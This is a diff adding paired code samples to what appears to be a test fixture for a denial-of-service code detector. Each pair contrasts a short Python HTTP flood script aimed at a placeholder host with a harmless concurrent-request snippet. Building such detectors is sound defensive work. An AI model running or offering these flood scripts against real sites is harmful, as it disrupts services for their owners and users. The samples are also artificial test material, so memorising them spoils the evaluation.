@@ -62,6 +62,26 @@ PAIRS = [
      "for _ in range(400):\n    threading.Thread(target=spam).start()",
      "import requests, threading\ndef fetch(u):\n    print(len(requests.get(u).text))\n"
      "for u in ['https://a.example/1', 'https://a.example/2']:\n    threading.Thread(target=fetch, args=(u,)).start()"),
+    ("flood: a lambda mapped over a million items", "dos_attack",
+     "import requests\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(200) as ex:\n"
+     "    ex.map(lambda _: requests.get('http://shop.example.net/'), range(10 ** 6))",
+     "import requests\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(8) as ex:\n"
+     "    pages = list(ex.map(lambda u: requests.get(u).json(), urls))"),
+    ("flood: lambda worker targets started in a loop", "dos_attack",
+     "import requests, threading\nfor _ in range(500):\n"
+     "    threading.Thread(target=lambda: [requests.get('http://shop.example.net/') for _ in range(100000)]).start()",
+     "import requests, threading\nthreading.Thread(target=lambda: requests.post('https://hooks.example.org/done', "
+     "json={'run': 7})).start()"),
+    ("flood: a timer that restarts itself at once", "dos_attack",
+     "import requests, threading\ndef tick():\n    requests.get('http://shop.example.net/')\n"
+     "    threading.Timer(0.001, tick).start()\nfor _ in range(50):\n    tick()",
+     "import requests, threading\ndef tick():\n    requests.get('https://status.example.org/ping')\n"
+     "    threading.Timer(60, tick).start()\ntick()"),
+    ("flood: the request function taken from a dict", "dos_attack",
+     "import requests, threading\nops = {'go': requests.get}\ndef hit():\n    while True:\n"
+     "        ops['go']('http://shop.example.net/')\nfor _ in range(300):\n    threading.Thread(target=hit).start()",
+     "import requests\nverbs = {'get': requests.get, 'post': requests.post}\n"
+     "r = verbs['get']('https://api.example.org/items')\nprint(r.json())"),
     ("flood: a Thread subclass", "dos_attack",
      "import threading, urllib.request, sys\nclass Hit(threading.Thread):\n    def run(self):\n        while True:\n"
      "            urllib.request.urlopen(sys.argv[1])\nfor _ in range(1000):\n    Hit().start()",
